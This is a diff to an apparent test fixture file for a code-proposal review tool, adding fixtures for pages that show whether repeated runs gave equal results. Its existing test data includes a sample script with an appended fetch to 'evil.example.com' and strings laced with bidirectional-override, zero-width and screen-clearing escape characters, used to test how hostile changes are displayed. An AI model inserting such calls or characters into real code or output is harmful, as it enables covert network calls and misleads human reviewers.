@@ -14,6 +14,8 @@ from cortex.channels import how_to_decide, owner_summary, owner_view, set_in
 from neurons import (
     Approval,
     Around,
+    Difference,
+    Equality,
     FileGrant,
     Metadata,
     Neuron,
@@ -131,6 +133,8 @@ def with_files() -> Neuron:
 
 OLD_CODE = "const threshold = 0.01;\nconst url = 'https://api.coingecko.com';\nemit('price_change', threshold);"
 NEW_CODE = OLD_CODE.replace("0.01", "0.05") + "\nawait fetch('https://evil.example.com');"
+DIFFERENCE = Difference(input='the run of 2026-11-17, with "usd" as 0', script="nothing", candidate="emitted 1\u202e")
+DIFFERENT = Equality(runs=5, compared=41, equal=40, first_difference=DIFFERENCE)
 HOSTILE = "fine\u202e\x1b[2J\u200b\n  hash          " + "0" * 64
 
 
@@ -169,6 +173,8 @@ def pages() -> dict[str, list[str]]:
         "hostile-texts": (
             proposal(metadata=hostile, code=HOSTILE, reason=HOSTILE, emission={"action": "notify", "text": HOSTILE}),
         ),
+        "equal": (proposal(report=report(equality=Equality(runs=5, compared=41, equal=41))),),
+        "different": (proposal(report=report(equality=DIFFERENT, problems=("it differs",))),),
         "in-quarantine": (proposal(status="quarantine", report=None, request=None),),
         "failed": (
             proposal(
